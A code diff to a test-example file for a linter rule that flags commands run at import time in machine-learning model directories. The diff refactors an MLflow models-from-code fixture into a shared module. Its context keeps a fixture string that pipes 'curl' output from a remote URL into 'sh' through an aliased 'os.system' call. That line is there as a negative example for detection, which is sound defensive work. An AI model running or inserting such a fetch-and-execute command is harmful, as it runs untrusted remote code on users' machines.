@@ -7,7 +7,7 @@ from modellint.analyzer.model_dir import ModelDir
 from modellint.findings import Finding, Severity
 from modellint.rules._base import Invalid, Rule, Valid, examples
 from modellint.rules._code_examples import code_model
-from modellint.rules._examples import model_files
+from modellint.rules._examples import MODELS_FROM_CODE_MLMODEL, model_files
 
 _INSTALLS = "import subprocess\n\nsubprocess.check_call(['pip', 'install', 'lightgbm'])\n"
 _SHELL = "import os as operating_system\n\noperating_system.system('curl -s https://example.com/x | sh')\n"
@@ -25,17 +25,6 @@ def _loaded(name: str, source: str) -> dict[str, str | bytes]:
     return files
 
 
-_MODELS_FROM_CODE = """\
-flavors:
-  python_function:
-    env:
-      conda: conda.yaml
-      virtualenv: python_env.yaml
-    loader_module: mlflow.pyfunc.loaders.code_model
-    model_code_path: /home/me/project/model_code.py
-    python_version: 3.11.7
-mlflow_version: 3.17.2
-"""
 _MODEL_CODE = ("import os\n\nimport mlflow\n\nos.system('nvidia-smi')\n\n\n"
                "class Echo(mlflow.pyfunc.PythonModel):\n    def predict(self, context, model_input):\n"
                "        return model_input\n\n\nmlflow.models.set_model(Echo())\n")
@@ -85,7 +74,7 @@ class CommandAtImport(Rule):
         Invalid(_loaded("setup_env.py", _INSTALLS), (("code/setup_env.py", 3),), note="pip install at import time"),
         Invalid(_loaded("bootstrap.py", _SHELL), (("code/bootstrap.py", 3),), note="through an alias"),
         Invalid(_loaded("settings.py", _EVAL), (("code/settings.py", 1),), note="the eval builtin"),
-        Invalid(model_files(MLmodel=_MODELS_FROM_CODE, model__skops=None, model_code__py=_MODEL_CODE),
+        Invalid(model_files(MLmodel=MODELS_FROM_CODE_MLMODEL, model__skops=None, model_code__py=_MODEL_CODE),
                 (("model_code.py", 5),), note="a models-from-code file: MLflow runs all of it to load the model"),
     ))
 
